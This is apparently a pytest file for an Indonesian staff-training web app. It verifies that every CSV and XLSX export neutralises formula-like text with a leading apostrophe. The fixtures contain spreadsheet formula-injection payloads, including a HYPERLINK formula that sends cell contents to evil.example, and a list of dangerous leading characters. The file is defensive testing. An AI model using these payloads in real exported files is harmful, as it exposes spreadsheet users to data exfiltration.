"""Every CSV/XLSX download neutralises text that a spreadsheet would run as a formula.

People, an OPD, a course and a JP category are given names like
`=HYPERLINK("http://evil.example/?"&A1,"Klik")`; every spreadsheet route of the app is
fetched and each such cell must be text starting with an apostrophe (XLSX: a string cell,
and no formula anywhere in the workbook). The route table is walked so that a new
spreadsheet download fails this test until it is covered here. On SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import inspect
import io
import re
import zipfile
from datetime import date, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select

from app.bimtek import attendance, seats
from app.main import create_app
from app.opds.models import Opd
from app.reports.routes import EXPORTS
from app.spreadsheets import Sheet, csv_bytes, neutralise, xlsx_book
from app.users.models import ImportJob, User
from app.users.service import create_user
from tests.conftest import NIPS
from tests.fixtures.bimtek.builders import MORNING, copy_courses, make_session, nip_for
from tests.test_access_matrix import api_routes
from tests.test_reports_queries import complete, jakarta, make_course, make_enrolment

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
# Person names: the first two come in through the staff import (a name needs a letter
# there), the others are created directly (e.g. by an older import or the database).
IMPORTED = [HYPERLINK, "@SUM(A1) Budi"]
CREATED = ["+1+1", "-2+3", "＝1+1", "=SUM(1)"]
NAMES = IMPORTED + CREATED
JABATAN = "-2+3 Kepala"
OPD_NAME = '=HYPERLINK("http://evil.example/opd","OPD")'
COURSE_TITLE = "=1+2 Kursus"
CATEGORY = "＠kategori"
# What a spreadsheet would run (OWASP, and the full-width forms). Defined here again, on
# purpose: the test must not trust the module it checks.
DANGER = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
TODAY = date(2026, 12, 1)


# ---------------------------------------------------------------------------- neutralise


@given(st.text())
def test_neutralised_text_never_starts_a_formula(text: str) -> None:
    out = neutralise(text)
    assert out.startswith("'") or not out.lstrip().startswith(DANGER)
    assert not out.startswith(DANGER)
    assert out in (text, "'" + text)  # nothing else changes


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.dates(), st.booleans()))
def test_numbers_dates_and_booleans_are_left_alone(value) -> None:
    assert neutralise(value) == value
    assert neutralise(None) is None


@pytest.mark.parametrize("text", [*NAMES, "－1", "＋1", " =1+1", "\r=1", "\n=1"])
def test_each_dangerous_start_is_prefixed(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Budi", "1990", "O'Brien", "'=already text", "", "a=b"])
def test_harmless_text_is_unchanged(text: str) -> None:
    assert neutralise(text) == text


def test_writers_keep_numbers_numbers_and_text_text() -> None:
    rows = [["-2+3", -5, 2.5, None, "=1"]]
    text = csv_bytes(rows).decode("utf-8-sig")
    assert text == "'-2+3,-5,2.5,,'=1\r\n"
    sheet = load_workbook(io.BytesIO(xlsx_book([Sheet("S", rows)]))).active
    cells = list(sheet.iter_rows())[0]
    assert [c.value for c in cells] == ["'-2+3", -5, 2.5, None, "'=1"]
    assert [c.data_type for c in cells] == ["s", "n", "n", "n", "s"]


# ---------------------------------------------------------------------------- the city


@pytest.fixture
def app(settings, clock, tmp_path):
    settings.courses_dir = copy_courses(tmp_path)  # the bimtek fixture course
    clock.now = MORNING  # Tuesday 1 December 2026, 09.00 in the city
    return create_app(settings, clock=clock)


def _import_people(adi) -> None:
    def field(text: str) -> str:
        return '"' + text.replace('"', '""') + '"'

    lines = ["nip;nama;kode opd;jabatan"]
    for n, name in enumerate(IMPORTED, start=1):
        lines.append(f"{nip_for(100 + n)};{field(name)};JAHAT;{field(JABATAN)}")
    token = adi.csrf("/admin/impor")
    preview = adi.post(
        "/admin/impor",
        data={"csrf_token": token},
        files={"berkas": ("pegawai.csv", "\n".join(lines).encode(), "text/csv")},
    )
    assert preview.status_code == 200, preview.text[:300]
    job_path = preview.url.path
    applied = adi.submit(f"{job_path}/terapkan", page=job_path)
    assert "Impor selesai" in applied.text, applied.text[:500]


@pytest.fixture
def evil(client, db, people):
    """An OPD, six people, a course, a category, a bimtek session and report data, all
    with formula-like names (people and the OPD created through the admin pages)."""
    client.login(NIPS["adi"])
    r = client.submit("/admin/opd", {"code": "JAHAT", "name": OPD_NAME}, page="/admin/opd")
    assert r.status_code == 200
    _import_people(client)
    db.rollback()
    opd = db.scalar(select(Opd).where(Opd.code == "JAHAT"))
    assert opd is not None and opd.name == OPD_NAME
    for n, name in enumerate(CREATED, start=1):
        create_user(db, full_name=name, nip=nip_for(200 + n), opd=opd, jabatan=JABATAN)
    db.commit()
    persons = db.scalars(select(User).where(User.opd_id == opd.id).order_by(User.id)).all()
    assert sorted(p.full_name for p in persons) == sorted(NAMES)
    assert db.scalar(select(ImportJob.status).order_by(ImportJob.id.desc())) == "done"

    session = make_session(db, actor=people.adi, capacity=30)
    day = session.days[0]
    for person in persons:
        seats.nominate(
            db, session_id=session.id, person_id=person.id, actor=people.adi, now=MORNING
        )
    attendance.mark_present(
        db,
        session_id=session.id,
        day_id=day.id,
        person_id=persons[0].id,
        actor=people.adi,
        now=MORNING,
    )

    course = make_course(db, "jahat", jp=2, category=CATEGORY)
    course.title = COURSE_TITLE
    mandatory = make_course(db, "wajib-jahat", jp=1)
    for person in persons:
        complete(db, person, course, at=jakarta(TODAY - timedelta(days=10), 9), score=75)
        make_enrolment(
            db,
            person,
            mandatory,
            enrolled_at=jakarta(TODAY - timedelta(days=30)),
            source="assigned",
            due_date=TODAY - timedelta(days=5),
        )
    db.commit()
    return {"opd": opd, "session": session, "day": day}


# ---------------------------------------------------------------------------- downloads

BIMTEK_DAY = "/bimtek/sesi/{session_id}/hari/{day_id}/daftar-hadir.xlsx"
BIMTEK_PEOPLE = "/bimtek/sesi/{session_id}/peserta.xlsx"
ACTIVATION = "/admin/aktivasi/{opd_id}/daftar.xlsx"
REPORT = "/laporan/ekspor/{tabel}.{fmt}"
TEMPLATE = "/admin/impor/templat.{fmt}"
OPD_ROWS = {OPD_NAME}
PERSON_ROWS = set(NAMES)

# (route, what to fetch, the formula-like texts the file must hold)
DOWNLOADS = {
    "daftar-hadir.xlsx": (BIMTEK_DAY, None, PERSON_ROWS | OPD_ROWS),
    "peserta.xlsx": (BIMTEK_PEOPLE, None, PERSON_ROWS | {JABATAN}),
    "aktivasi.xlsx": (ACTIVATION, None, PERSON_ROWS),
    # Column titles only, nobody's text: listed so that every spreadsheet route is here.
    "templat.xlsx": (TEMPLATE, "xlsx", set()),
    "templat.csv": (TEMPLATE, "csv", set()),
    **{
        f"laporan {tabel}.{fmt}": (REPORT, (tabel, fmt), expected)
        for tabel, fmt, expected in [
            ("opd", "csv", OPD_ROWS),
            ("opd", "xlsx", OPD_ROWS),
            ("mingguan", "csv", set()),  # dates and counts only: no text of anyone's
            ("mingguan", "xlsx", OPD_ROWS),  # the OPD filter in the header block
            ("asn", "csv", PERSON_ROWS | {COURSE_TITLE}),
            ("asn", "xlsx", PERSON_ROWS | {COURSE_TITLE}),
            ("belum-mulai", "csv", PERSON_ROWS | OPD_ROWS),
            ("belum-mulai", "xlsx", PERSON_ROWS | OPD_ROWS),
            ("jp", "csv", PERSON_ROWS | OPD_ROWS),
            ("jp", "xlsx", PERSON_ROWS | OPD_ROWS),
            ("jp-triwulan", "csv", OPD_ROWS),
            ("jp-triwulan", "xlsx", OPD_ROWS),
            ("jp-kategori", "csv", {CATEGORY}),
            ("jp-kategori", "xlsx", {CATEGORY} | OPD_ROWS),
            ("siasn", "csv", PERSON_ROWS | {COURSE_TITLE}),
            ("siasn", "xlsx", PERSON_ROWS | {COURSE_TITLE}),
        ]
    },
}

# Spreadsheet writers as a route's code calls them: how the route table is searched.
_WRITES_SPREADSHEET = re.compile(r"_xlsx\(|to_xlsx\(|to_csv\(|xlsx_book\(|csv_bytes\(")


def spreadsheet_routes(app) -> set[tuple[str, str]]:
    """(method, path) of every route answering with a CSV or XLSX file."""
    found = set()
    for route in api_routes(app.routes):
        source = inspect.getsource(route.endpoint)
        by_name = route.path.endswith((".xlsx", ".csv", ".{fmt}"))
        if by_name or _WRITES_SPREADSHEET.search(source):
            found |= {(method, route.path) for method in route.methods - {"HEAD"}}
    return found


def test_every_spreadsheet_route_is_covered(app) -> None:
    covered = {("GET", path) for path, _, _ in DOWNLOADS.values()}
    assert spreadsheet_routes(app) == covered
    reports = {spec for path, spec, _ in DOWNLOADS.values() if path == REPORT}
    assert reports == {(t, f) for t, formats in EXPORTS.items() for f in formats if f != "pdf"}


def _fetch(client, evil, path: str, spec) -> tuple[str, bytes]:
    if path == ACTIVATION:
        opd_id = evil["opd"].id
        issued = client.submit(
            "/admin/aktivasi", {"opd_id": opd_id}, page=f"/admin/aktivasi?opd_id={opd_id}"
        )
        assert issued.status_code == 200, issued.text[:300]
        r, kind = client.get(path.format(opd_id=opd_id)), "xlsx"
    elif path == REPORT:
        tabel, kind = spec
        r = client.get(f"/laporan/ekspor/{tabel}.{kind}?opd={evil['opd'].id}")
    elif path == TEMPLATE:
        r, kind = client.get(path.format(fmt=spec)), spec
    else:
        url = path.format(session_id=evil["session"].id, day_id=evil["day"].id)
        r, kind = client.get(url), "xlsx"
    assert r.status_code == 200, r.text[:300]
    assert r.headers["content-type"].startswith(
        "text/csv" if kind == "csv" else "application/vnd.openxmlformats"
    )
    return kind, r.content


def _csv_texts(content: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows
    return [cell for row in rows for cell in row if cell]


def _xlsx_texts(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for part in archive.namelist():
            if part.startswith("xl/worksheets/"):
                xml = archive.read(part)
                assert not re.search(rb"<(\w+:)?f[\s>/]", xml), f"formula in {part}"
    texts = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", cell.coordinate
                    texts.append(cell.value)
    return texts


@pytest.mark.parametrize("download", list(DOWNLOADS))
def test_download_neutralises_formula_like_text(client, evil, download: str) -> None:
    path, spec, expected = DOWNLOADS[download]
    kind, content = _fetch(client, evil, path, spec)
    texts = _csv_texts(content) if kind == "csv" else _xlsx_texts(content)
    for text in expected:
        assert "'" + text in texts, f"{text!r} not written as text in {download}"
        assert text not in texts, f"{text!r} written raw in {download}"
    dangerous = [t for t in texts if t.lstrip().startswith(DANGER) or t.startswith(DANGER)]
    assert dangerous == [], f"{download}: {dangerous}"
